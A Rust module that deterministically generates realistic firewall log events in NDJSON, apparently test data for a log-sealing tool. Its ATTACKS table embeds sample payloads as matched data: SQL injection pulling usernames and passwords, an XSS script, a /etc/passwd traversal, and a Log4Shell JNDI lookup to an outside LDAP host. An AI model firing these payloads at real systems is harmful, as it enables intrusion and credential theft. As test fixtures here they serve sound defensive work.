//! Realistic firewall events: NDJSON as the log service pushes it, with the matched data in the
//! clear for `pqseal logs seal`.

use std::{
    io::{self, Write},
    ops::Range,
};

use serde_json::json;
use sha2::{Digest, Sha256};

/// The percentage of events that matched no rule which logs its payload, and that of events for
/// which the edge logged `truncated`.
const PERCENT: (u64, u64) = (10, 1);

/// Writes the events of these `numbers`. The same seed gives the same events.
///
/// # Errors
/// Those of the writer.
pub(super) fn events(numbers: Range<u64>, seed: u64, writer: &mut impl Write) -> io::Result<()> {
    for number in numbers {
        writer.write_all(event(number, seed).as_bytes())?;
    }
    Ok(())
}

fn event(number: u64, seed: u64) -> String {
    let mut dice = Dice::new(number, seed);
    let (method, path, part, content) = ATTACKS[dice.below(ATTACKS.len())];
    let host = HOSTS[dice.below(HOSTS.len())];
    let ray = format!("{:016x}", dice.next());
    let rule = format!(
        "{:032x}",
        u128::from(dice.below(40) as u64) << 64 | 0x9dd5_3f2c
    );
    let matched = json!({ part: { "before": path, "content": content, "after": " HTTP/1.1" } });
    let metadata = match dice.next() % 100 {
        roll if roll < PERCENT.0 => json!({ "ruleset_version": "57", "type": "managed" }),
        roll if roll < PERCENT.0 + PERCENT.1 => {
            json!({ "encrypted_matched_data": "truncated", "ruleset_version": "57" })
        }
        _ => {
            json!({ "matched_data": matched.to_string(), "ruleset_version": "57", "version": "57" })
        }
    };
    let second = 1_790_000_000 + number / 50;
    let action = ["block", "log", "managed_challenge"][dice.below(3)];
    let country = ["de", "us", "br", "vn", "za"][dice.below(5)];
    let colo = ["FRA", "IAD", "GRU", "SIN"][dice.below(4)];
    let status = [403, 200, 503][dice.below(3)];
    let mut line = json!({
        "Action": action,
        "ClientASN": 64_496 + dice.below(15),
        "ClientCountry": country,
        "ClientIP": format!("198.51.100.{}", dice.below(256)),
        "ClientRequestHost": host,
        "ClientRequestMethod": method,
        "ClientRequestPath": path,
        "ClientRequestUserAgent": AGENTS[dice.below(AGENTS.len())],
        "Datetime": second * 1_000_000_000 + dice.next() % 1_000_000_000,
        "EdgeColoCode": colo,
        "EdgeResponseStatus": status,
        "Metadata": metadata,
        "RayID": ray,
        "RuleID": rule,
        "Source": "firewallManaged",
    })
    .to_string();
    line.push('\n');
    line
}

/// A generator of numbers from a hash of seed and place: the same on every machine and in every
/// release.
struct Dice([u8; 32], usize);

impl Dice {
    fn new(number: u64, seed: u64) -> Self {
        Self(
            Sha256::new()
                .chain_update(seed.to_be_bytes())
                .chain_update(number.to_be_bytes())
                .finalize()
                .into(),
            0,
        )
    }

    fn next(&mut self) -> u64 {
        if self.1 == self.0.len() {
            *self = Self(Sha256::digest(self.0).into(), 0);
        }
        let bytes = self.0[self.1..self.1 + 8]
            .try_into()
            .expect("32 bytes are four times 8");
        self.1 += 8;
        u64::from_be_bytes(bytes)
    }

    #[expect(
        clippy::cast_possible_truncation,
        reason = "the remainder is below a usize"
    )]
    fn below(&mut self, bound: usize) -> usize {
        (self.next() % bound as u64) as usize
    }
}

const HOSTS: [&str; 5] = [
    "shop.example.com",
    "api.example.com",
    "www.example.org",
    "login.example.net",
    "cdn.example.com",
];
const AGENTS: [&str; 4] = [
    "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0",
    "curl/8.14.1",
    "python-requests/2.32.4",
    "sqlmap/1.9#stable (https://sqlmap.org)",
];
/// The method, the path, the field that matched, and the matched content.
const ATTACKS: [(&str, &str, &str, &str); 6] = [
    (
        "GET",
        "/products?id=1",
        "http.request.uri.query",
        "1' UNION SELECT username, password FROM users--",
    ),
    (
        "POST",
        "/login",
        "http.request.body.raw",
        "user=admin&password=\"correct horse\"\r\n&next=/",
    ),
    (
        "GET",
        "/search?q=x",
        "http.request.uri.query",
        "<script>alert(\"1\")</script>",
    ),
    (
        "GET",
        "/../../etc/passwd",
        "http.request.uri.path",
        "../../etc/passwd",
    ),
    (
        "POST",
        "/api/v1/run",
        "http.request.body.raw",
        "${jndi:ldap://203.0.113.7/a}",
    ),
    (
        "GET",
        "/cms/%0Aadmin",
        "http.request.headers.values[2]",
        "caf\u{e9} \u{1b}[2J \\ end",
    ),
];
